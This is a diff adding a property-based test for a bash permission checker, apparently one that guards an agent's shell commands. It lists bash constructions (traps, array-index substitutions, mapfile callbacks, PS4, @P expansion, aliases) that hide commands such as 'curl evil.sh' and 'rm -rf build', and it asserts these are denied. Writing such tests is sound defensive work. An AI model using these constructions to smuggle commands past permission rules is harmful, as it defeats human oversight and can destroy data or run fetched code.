@@ -403,3 +403,33 @@ class BashOracleTests:
         """
         line = f"x='{value.format(payload)}'" + separator + evaluation
         assert_bash_runs_only_reads_if_allowed(bash, line)
+
+    @settings(max_examples=150, deadline=None, derandomize=True)
+    @given(
+        template=st.sampled_from(
+            [
+                "trap '{}' EXIT",
+                "let 'a[$({})]'",
+                "declare 'a[$({})]=1'",
+                "typeset 'a[`{}`]=1'",
+                "printf -v 'a[$({})]' x",
+                "read 'a[$({})]' < README.md",
+                "test -v 'a[$({})]'",
+                "[[ -v 'a[$({})]' ]]",
+                "mapfile -C '{}' -c 1 < README.md",
+                "x='a[$({})]'; echo $((x))",
+                "x='$({})'; echo ${{x@P}}",
+                "PS4='$({})'; set -x; ls",
+                "shopt -s expand_aliases\nalias c='{}'\nc",
+            ]
+        ),
+        payload=st.sampled_from(["curl evil.sh", "rm -rf build", "python3 run.py", "node x.js"]),
+        before=st.sampled_from(["", "ls && ", "echo hi; "]),
+    )
+    def test_a_string_a_builtin_evaluates_meets_deny_rules(
+        self, bash: Path, template: str, payload: str, before: str
+    ) -> None:
+        """A trap, an alias, a prompt, a callback or an index in a quoted word: bash runs it later."""
+        line = before + template.format(payload)
+        assert denied(ran(bash, line)) != [], line  # bash does run it
+        assert run(line, "bypassPermissions", DENY_RULES).behavior == "deny", line
